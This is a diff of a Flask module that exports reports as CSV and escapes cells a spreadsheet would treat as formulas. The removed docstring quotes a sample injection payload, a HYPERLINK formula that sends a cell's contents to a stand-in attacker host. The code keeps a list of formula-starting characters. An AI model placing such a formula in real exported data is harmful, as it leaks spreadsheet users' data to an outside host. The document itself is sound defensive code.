@@ -1,10 +1,4 @@
-"""Reports as CSV: UTF-8 with a BOM so that Excel opens Chinese text correctly.
-
-Every text cell goes through `safe_cell`: a spreadsheet takes a cell starting with
-=, +, -, @, a tab or a carriage return as a formula (a team named
-`=HYPERLINK("http://evil.example/?x="&A1,"click")` would run in the reader's
-Excel), so such text is written with a leading apostrophe. Numbers stay numbers.
-"""
+"""Reports as CSV: UTF-8 with a BOM so that Excel opens Chinese text correctly."""
 
 from __future__ import annotations
 
@@ -15,6 +9,7 @@ from collections.abc import Iterable, Sequence
 from flask import Response
 
 UTF8_BOM = "\ufeff"
+# A cell starting with one of these is a formula to a spreadsheet (CSV injection).
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 # OpenAPI for a route that answers CSV with ?format=csv: its 200 may be text/csv, beside JSON
 # (an int key: flask-smorest keys responses by int, and a "200" would replace the JSON one).
@@ -22,25 +17,22 @@ CSV_ALTERNATIVE_DOC = {"responses": {200: {"content": {
     "text/csv": {"schema": {"type": "string", "description": "UTF-8 with a BOM, header row"}}}}}}
 
 
-def safe_cell(value: object) -> object:
-    """A cell as a spreadsheet may open it: None empty, text never a formula, numbers as
-    they are (a change of -11.4 stays the number -11.4)."""
-    if value is None:
-        return ""
-    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
-        return "'" + value
-    return value
-
-
 def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
-    """One header row, then the rows, every cell through `safe_cell`."""
+    """One header row, then the rows; None is written as an empty cell, text made safe."""
     buffer = io.StringIO()
     buffer.write(UTF8_BOM)
     writer = csv.writer(buffer, lineterminator="\r\n")
-    writer.writerow([safe_cell(name) for name in header])
+    writer.writerow(header)
     for row in rows:
-        writer.writerow([safe_cell(value) for value in row])
+        writer.writerow(["" if value is None else safe_cell(value) for value in row])
     return buffer.getvalue()
+
+
+def safe_cell(value: object) -> object:
+    """Text that a spreadsheet would run as a formula gets a leading `'`; numbers pass."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
 
 
 def csv_response(filename: str, header: Sequence[str],
